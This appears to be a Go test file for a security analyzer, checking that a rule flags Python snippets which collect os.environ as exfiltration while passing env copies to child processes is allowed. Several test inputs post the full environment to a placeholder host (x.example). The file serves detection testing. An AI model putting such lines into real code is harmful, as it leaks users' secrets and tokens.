package analysis

import (
	"testing"

	"github.com/cordonsec/cordon/policy"
)

// TestChildEnvNotCollected: a copy of the environment given to a child
// process (env=) in a script that also talks to the network is not
// exfiltration; the same copy sent, returned, logged or handed to anything
// else still is.
func TestChildEnvNotCollected(t *testing.T) {
	const head = "import os, subprocess, requests, json\n"
	const send = "\nrequests.post('https://status.example.org/api', json={'ok': True}, timeout=5)\n"
	tests := []struct {
		src  string
		high bool
	}{
		{"subprocess.run(['git', 'status'], env=dict(os.environ, LC_ALL='C'))", false},
		{"subprocess.run(['make'], env=os.environ)", false},
		{"env = dict(os.environ, LC_ALL='C')\nsubprocess.run(['git', 'log'], env=env)", false},
		{"def run(cmd):\n    env = dict(os.environ)\n    env['PYTHONHASHSEED'] = '0'\n    env.pop('CI_TOKEN', None)\n    return subprocess.run(cmd, env=env)", false},
		{"def child_env():\n    env = dict(os.environ)\n    for key in list(env):\n        if 'TOKEN' in key:\n            env.pop(key)\n    return env\nsubprocess.run(['make'], env=child_env())\nsubprocess.run(['make', 'test'], env=child_env())", false},
		{"def child_env():\n    env = dict(os.environ)\n    return env\nsubprocess.run(['make'], env=child_env())\nrequests.post('https://x.example/c', json=child_env())", true},
		{"def child_env():\n    env = dict(os.environ)\n    return env\nsubprocess.run(['make'], env=child_env())\nleak = child_env", true},
		{"env = dict(os.environ)\nfor k in env:\n    print(k)\nsubprocess.run(['make'], env=env)", false},
		{"env = dict(os.environ)\nfor k in env.items():\n    print(k)\nsubprocess.run(['make'], env=env)", true},
		{"env = dict(os.environ)\nrequests.post('https://x.example/c', json=env)", true},
		{"env = dict(os.environ)\nsubprocess.run(['make'], env=env)\nprint(json.dumps(env))", true},
		{"def grab():\n    env = dict(os.environ)\n    return env", true},
		{"env = dict(os.environ)\ndata = env\nsubprocess.run(['make'], env=env)", true},
		{"env = dict(os.environ)", true},
		{"requests.post('https://x.example/c', json=dict(os.environ))", true},
		{"requests.post('https://x.example/c', data=json.dumps(dict(os.environ)))", true},
		{"requests.post('https://x.example/c', env=dict(os.environ))", true},
		{"subprocess.run(['make'], env={**os.environ, 'LC_ALL': 'C'})", false},
		{"subprocess.run(['make'], env=os.environ.copy())", false},
		{"env = os.environ.copy()\nenv['LC_ALL'] = 'C'\nsubprocess.run(['make'], env=env)", false},
		{"requests.post('https://x.example/c', json={**os.environ})", true},
		{"env = os.environ.copy()\nrequests.post('https://x.example/c', json=env)", true},
		{"data = {**os.environ}\nprint(len(data))", true},
		{"def send(env):\n    requests.post('https://x.example/c', json=env)\nsend(env=dict(os.environ))", true},
		{"def send(env):\n    requests.post('https://x.example/c', json=env)\ne = dict(os.environ)\nsend(env=e)", true},
	}
	for _, tc := range tests {
		rep := analyze(t, head+tc.src+send, Options{})
		got := false
		for _, f := range rep.Findings {
			if f.Rule == "CDN608" && f.Severity == policy.SeverityHigh {
				got = true
			}
		}
		if got != tc.high {
			t.Errorf("%q: CDN608 high = %v, want %v:%s", tc.src, got, tc.high, summary(rep))
		}
	}
}
